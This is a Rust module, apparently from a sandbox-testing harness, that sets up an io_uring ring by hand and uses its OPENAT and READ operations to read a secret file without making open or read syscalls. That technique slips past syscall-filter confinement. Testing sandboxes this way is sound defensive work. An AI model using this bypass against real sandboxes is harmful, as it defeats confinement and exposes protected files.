//! io_uring by hand: one ring, one openat and one read in it, so that no open or read syscall is
//! made (io_uring(7); offsets from include/uapi/linux/io_uring.h).

use crate::attack::{Attempt, no_effect};
use crate::sys;
use crate::sys::{at_mut, c, peek32, poke};

const SINGLE_MMAP: u32 = 1;
const OPENAT: u8 = 18;
const READ: u8 = 22;
const GETEVENTS: u32 = 1;
const OFF_SQES: usize = 0x1000_0000;

#[repr(C)]
#[derive(Default)]
struct RingParams {
    sq_entries: u32,
    cq_entries: u32,
    flags: u32,
    sq_thread: [u32; 2],
    features: u32,
    wq_fd: u32,
    reserved: [u32; 3],
    /// head, tail, ring_mask, ring_entries, flags, dropped, array, reserved; user address.
    sq_off: [u32; 10],
    /// head, tail, ring_mask, ring_entries, overflow, cqes, flags, reserved; user address.
    cq_off: [u32; 10],
}

#[repr(C)]
#[derive(Default)]
struct Entry {
    opcode: u8,
    flags: u8,
    priority: u16,
    fd: i32,
    offset: u64,
    address: u64,
    length: u32,
    open_flags: u32,
    user_data: u64,
    rest: [u64; 3],
}

struct Ring {
    fd: usize,
    ring: usize,
    entries: usize,
    params: RingParams,
    submitted: u32,
}

impl Ring {
    fn new() -> Result<Self, crate::attack::Stop> {
        let mut params = RingParams::default();
        let fd = sys!(SYS_io_uring_setup, 4, at_mut(&mut params))?;
        if params.features & SINGLE_MMAP == 0 {
            return Err(no_effect("a ring of two mappings"));
        }
        let [.., array, _, _, _] = params.sq_off;
        let cqes = params.cq_off[5];
        let size = (array + params.sq_entries * 4).max(cqes + params.cq_entries * 16) as usize;
        let shared = libc::MAP_SHARED | libc::MAP_POPULATE;
        let protection = libc::PROT_READ | libc::PROT_WRITE;
        let ring = sys!(SYS_mmap, 0, size, protection, shared, fd, 0)?;
        let length = params.sq_entries as usize * size_of::<Entry>();
        let entries = sys!(SYS_mmap, 0, length, protection, shared, fd, OFF_SQES)?;
        Ok(Self { fd, ring, entries, params, submitted: 0 })
    }

    /// Submits one entry, waits for it, and returns its result.
    fn run(&mut self, entry: &Entry) -> Result<i32, crate::attack::Stop> {
        let slot = self.submitted & (self.params.sq_entries - 1);
        let [_, tail, _, _, _, _, array, ..] = self.params.sq_off;
        let bytes: Vec<u8> = [
            u64::from(entry.opcode) | (u64::from(entry.fd.cast_unsigned()) << 32),
            entry.offset,
            entry.address,
            u64::from(entry.length) | (u64::from(entry.open_flags) << 32),
            entry.user_data,
            0,
            0,
            0,
        ]
        .iter()
        .flat_map(|w| w.to_le_bytes())
        .collect();
        poke(self.entries + slot as usize * size_of::<Entry>(), &bytes);
        poke(self.ring + array as usize + slot as usize * 4, &slot.to_le_bytes());
        std::sync::atomic::fence(std::sync::atomic::Ordering::SeqCst);
        poke(self.ring + tail as usize, &(self.submitted + 1).to_le_bytes());
        sys!(SYS_io_uring_enter, self.fd, 1, 1, GETEVENTS, 0, 0)?;
        let [head, _, mask, _, _, cqes, ..] = self.params.cq_off;
        let index = self.submitted & peek32(self.ring + mask as usize);
        let result = peek32(self.ring + cqes as usize + index as usize * 16 + 8).cast_signed();
        self.submitted += 1;
        poke(self.ring + head as usize, &self.submitted.to_le_bytes());
        if result < 0 { Err(crate::attack::failed(-result, "in the ring")) } else { Ok(result) }
    }
}

/// Reads the secret from `path` through a ring.
pub fn read_file(path: &str) -> Attempt {
    let mut ring = Ring::new()?;
    let name = c(path);
    let fd =
        ring.run(&Entry { opcode: OPENAT, fd: libc::AT_FDCWD, address: name.as_ptr() as u64, ..Entry::default() })?;
    let mut buffer = [0u8; 256];
    let n =
        ring.run(&Entry { opcode: READ, fd, address: buffer.as_mut_ptr() as u64, length: 256, ..Entry::default() })?;
    crate::kit::expect_secret(buffer.get(..n.unsigned_abs() as usize).unwrap_or_default())
}
